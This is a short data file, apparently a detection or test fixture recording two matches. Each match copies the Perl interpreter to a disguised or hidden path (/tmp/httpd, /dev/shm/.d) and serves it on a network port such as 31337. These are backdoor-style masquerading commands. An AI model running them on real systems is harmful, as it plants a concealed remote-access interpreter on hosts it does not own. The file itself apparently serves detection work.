# SPDX-License-Identifier: Apache-2.0
# hits: 2
cp /usr/bin/perl /tmp/httpd
serve /tmp/httpd 0.0.0.0 31337
cp /usr/bin/perl /dev/shm/.d
serve /dev/shm/.d 192.0.2.1 8080
